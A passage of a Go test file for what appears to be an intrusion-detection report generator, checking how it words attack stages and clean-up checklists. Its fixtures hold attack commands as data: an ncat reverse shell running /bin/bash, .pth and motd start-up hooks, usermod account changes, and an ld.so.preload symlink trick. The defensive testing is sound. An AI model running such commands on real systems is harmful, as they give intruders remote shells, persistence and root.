		}
	}
	for _, bad := range []string{"chpasswd", "/bin/sh", "0", "system maintenance"} {
		if k, ok := kinds[bad]; ok {
			t.Errorf("%q listed as %s", bad, k)
		}
	}
}

// A start-up hook's firing is inferred (no exec names the hook): the
// sentence says it is taken to have fired, and from what, where a planted
// file's own run is said as observed. (The word "inferred" is kept for a
// stage the chain only infers: this stage's plant is observed.)
func TestStageSentenceHookFiredIsInferred(t *testing.T) {
	t0 := time.Date(2026, 12, 4, 18, 39, 1, 0, time.UTC)
	ncat := &DocProcess{PID: 17811, PPID: 17790, Exe: "/usr/bin/ncat", User: "root",
		Args: []string{"/usr/bin/ncat", "--ssl", "127.0.0.1", "4447", "-e", "/bin/bash"}}
	hook := &DocProcess{PID: 900, PPID: 899, Exe: "/usr/bin/dash", User: "root", Args: []string{"/bin/sh", "/etc/update-motd.d/60-x"}}
	fs := []DocFinding{
		{ID: "F0001", RuleIDs: []string{"planted-file-run"}, Title: "P", Severity: "high", Stage: 5, StageID: "persistence", Time: t0, Kind: "exec",
			Hook: "/srv/kb/venv/lib/python3.11/site-packages/x.pth", ChainID: "C01", Outcome: OutcomeSuccess, Process: ncat},
		{ID: "F0002", RuleIDs: []string{"planted-file-run"}, Title: "P", Severity: "high", Stage: 5, StageID: "persistence", Time: t0.Add(time.Second), Kind: "exec",
			ChainID: "C01", Outcome: OutcomeSuccess, Process: hook},
	}
	byID := map[string]*DocFinding{}
	for i := range fs {
		byID[fs[i].ID] = &fs[i]
	}
	sg := DocStage{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
	got := sentence(&DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}}, sg, byID, "").Text
	for _, want := range []string{
		"the start-up hook /srv/kb/venv/lib/python3.11/site-packages/x.pth is taken to have fired as `/usr/bin/ncat --ssl 127.0.0.1 4447 -e /bin/bash` (the first child of an interpreter",
		"the planted file ran as `/bin/sh /etc/update-motd.d/60-x`",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%q: want %q", got, want)
		}
	}
	if strings.Contains(got, "ran as `/usr/bin/ncat") {
		t.Errorf("%q: the hook's child is said as the planted file's own run", got)
	}
}

// TestStageSentenceLoginIsUseNotInstall: a login into an account the
// intrusion changed is the way in used, said with the account; its
// commands are not persistence installed.
func TestStageSentenceLoginIsUseNotInstall(t *testing.T) {
	t0 := time.Date(2026, 12, 7, 9, 53, 25, 0, time.UTC)
	usermod := &DocProcess{PID: 22012, PPID: 22010, Exe: "/usr/sbin/usermod", User: "root", Args: []string{"usermod", "-s", "/bin/bash", "backup"}}
	login := &DocProcess{PID: 22166, PPID: 22165, Exe: "/usr/bin/bash", User: "backup", UID: 34, Args: []string{"bash", "-c", "id; w -h"}}
	fs := []DocFinding{
		{ID: "F0001", RuleIDs: []string{"account-manipulation"}, Title: "A", Severity: "medium", Stage: 5, StageID: "persistence", Time: t0, Kind: "exec",
			ChainID: "C01", Outcome: OutcomeSuccess, Process: usermod},
		{ID: "F0002", RuleIDs: []string{"login-changed-account"}, Title: "L", Severity: "high", Stage: 5, StageID: "persistence", Time: t0.Add(6 * time.Second), Kind: "exec",
			ChainID: "C01", Outcome: OutcomeSuccess, Process: login},
	}
	byID := map[string]*DocFinding{}
	for i := range fs {
		byID[fs[i].ID] = &fs[i]
	}
	sg := DocStage{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
	got := sentence(&DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}}, sg, byID, "").Text
	if !strings.Contains(got, "installed persistence with `usermod -s /bin/bash backup`") ||
		!strings.Contains(got, "an account the intrusion changed was used: backup") || !strings.Contains(got, "logged in and ran `id; w -h`") {
		t.Errorf("%q: want the usermod installed and backup's login used", got)
	}
	if strings.Contains(got, "with `usermod -s /bin/bash backup`, `id; w -h`") {
		t.Errorf("%q: the login's command is said as persistence installed", got)
	}
}

// TestCleanupFolderRemoved: rm -r of a folder takes the files the chain
// dropped below it (tallyhall-xslt's clean-up `rm -rf /var/tmp/.tally`,
// no watch there): each is "deleted since" with its folder named, and
// inferred, since only the command line says so; a folder removed without
// -r, or another folder, deletes nothing below it.
func TestCleanupFolderRemoved(t *testing.T) {
	for _, c := range []struct {
		rm   []string
		want string // the file line's wording of /var/tmp/.t/x.sh
	}{
		{[]string{"rm", "-rf", "/var/tmp/.t"}, "/var/tmp/.t/x.sh (deleted since, inferred)"},
		{[]string{"rm", "--recursive", "--force", "/var/tmp/.t/"}, "/var/tmp/.t/x.sh (deleted since, inferred)"},
		{[]string{"rm", "-f", "/var/tmp/.t"}, "/var/tmp/.t/x.sh"},
		{[]string{"shred", "-u", "/var/tmp/.t"}, "/var/tmp/.t/x.sh"},
		{[]string{"rm", "-rf", "/var/tmp/.tt"}, "/var/tmp/.t/x.sh"},
	} {
		t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
		p := func(pid int, args ...string) *DocProcess {
			return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33}
		}
		fs := []DocFinding{
			{ID: "F0001", Title: "T", Severity: "high", Stage: 4, Time: t0, Kind: "file-write", File: "/var/tmp/.t/x.sh", Process: p(10, "sh", "-c", "x"), ChainID: "C01", Outcome: OutcomeSuccess},
			{ID: "F0002", Title: "T", Severity: "high", Stage: 8, Time: t0.Add(time.Minute), Kind: "exec", Process: p(11, c.rm...), ChainID: "C01", Outcome: OutcomeSuccess},
		}
		d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "high", FindingIDs: []string{"F0001", "F0002"},
			Stages: []DocStage{{Stage: 8, StageID: "exfiltration-impact", Observed: true, FindingIDs: []string{"F0001", "F0002"}}}}}}
		buildSummary(d)
		var line string
		for _, g := range cleanGroups(d.Summary.Cleanup) {
			if g.Kind == CleanFile {
				line = strings.Join(g.What, ", ")
			}
		}
		if line != c.want {
			t.Errorf("%q: files line %q, want %q", c.rm, line, c.want)
		}
	}
}

// A service of the host the intruder's processes used (a connect a local
// process answered) is the victim's own: listed as a service used, never a
// peer to block, and no indicator to hunt.
func TestLocalServiceNotBlocked(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	p := &DocProcess{PID: 40, Exe: "/usr/bin/redis-cli", Args: []string{"redis-cli", "-h", "127.0.0.1", "INFO"}}
	fs := []DocFinding{
		{ID: "F0001", Title: "Outbound Connection", Severity: "medium", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect",
			Peer: "127.0.0.1:6379", PeerService: "redis-server[70]", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
		{ID: "F0002", Title: "Reverse Shell Connection", Reason: "a reverse shell", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect",
			Peer: "203.0.113.7:4444", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
	}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 10 + 2, FindingIDs: []string{"F0001", "F0002"},
		Stages: []DocStage{{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}}}}}
	lines := checklist(d)
	if lines["Peers to block:"] != "203.0.113.7:4444" || lines["Services of this host used:"] != "127.0.0.1:6379" {
		t.Errorf("checklist %v: want the reverse shell's peer to block and the host's Redis as a service used", lines)
	}
	for _, k := range d.Summary.KeyIOCs {
		if k.Value == "127.0.0.1:6379" {
			t.Errorf("key IOC %+v: the host's own service", k)
		}
	}
}

// The channel a command ran in is a peer to block even when its connect
// made no finding of its own (an implant's callback, known only as the
// related record of the shell it handed the socket to).
func TestChannelPeerInCleanup(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	p := &DocProcess{PID: 41, Exe: "/usr/bin/dash", Args: []string{"/bin/sh", "-i"}}
	fs := []DocFinding{{ID: "F0001", Title: "Interactive Shell On An Outbound Connection", Severity: "high", Stage: 7, StageID: "command-and-control",
		Time: t0, Kind: "exec", ChannelPeer: "203.0.113.9:4470", Process: p, ChainID: "C01", Outcome: OutcomeSuccess,
		Reason: "inferred channel: pid 40 (kd) connected to 203.0.113.9:4470 and then an interactive shell (-i) started with no terminal"}}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "high", Score: 300 + 10 + 1, FindingIDs: []string{"F0001"},
		Stages: []DocStage{{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}}}}}}
	lines := checklist(d)
	if lines["Peers to block:"] != "203.0.113.9:4470" {
		t.Errorf("checklist %v: want the channel's peer to block", lines)
	}
	for _, c := range d.Summary.Cleanup {
		if c.What == "203.0.113.9:4470" && !strings.Contains(c.Detail, "inferred: F0001 says how") {
			t.Errorf("%q: the channel was inferred, and the line does not say so", c.Detail)
		}
	}
}

// checklist builds d's summary and returns its clean-up checklist: each
// line's label and what it lists.
func checklist(d *Document) map[string]string {
	buildSummary(d)
	lines := map[string]string{}
	for _, g := range cleanGroups(d.Summary.Cleanup) {
		lines[g.Label] = strings.Join(g.What, ", ")
	}
	return lines
}

// TestCleanupFileMadeThroughLink: the web account's link from its log
// folder to /etc/ld.so.preload, then the preload written (its first
// recorded write finds it there: a root daemon reopening the log made it
// through the link) and removed. The clean-up says it was deleted, and
// does not tell the responder to restore a file the intrusion may have
// made.
func TestCleanupFileMadeThroughLink(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	proc := func(pid int, args ...string) *DocProcess {
		return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33}
	}
	fs := []DocFinding{
		{ID: "F0001", Stage: 4, Kind: "exec", Time: t0, Process: proc(10, "ln", "-s", "/etc/ld.so.preload", "/var/www/logs/error.log")},
		{ID: "F0002", Stage: 4, Kind: "file-write", File: "/etc/ld.so.preload", FileExisted: true, Time: t0.Add(time.Minute), Process: proc(11, "sh", "w.sh")},
		{ID: "F0003", Stage: 4, Kind: "unlink", File: "/etc/ld.so.preload", Time: t0.Add(time.Minute + 16*time.Millisecond), Process: proc(12, "sudo", "-n", "true")},
	}
	for i := range fs {
		fs[i].Title, fs[i].Severity, fs[i].ChainID, fs[i].Outcome = "T", "high", "C01", OutcomeSuccess
	}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "high", FindingIDs: []string{"F0001", "F0002", "F0003"},
		Stages: []DocStage{{Stage: 4, Observed: true, FindingIDs: []string{"F0001", "F0002", "F0003"}}}}}}
	buildSummary(d)
	var got string
	for _, c := range d.Summary.Cleanup {
		if c.What == "/etc/ld.so.preload" {
			got += c.Detail
		}
	}
	wantPhrases(t, "/etc/ld.so.preload", got, []string{"after the chain's link to it", "deleted later by sudo[12]"}, []string{"restore it, do not delete it"})
}
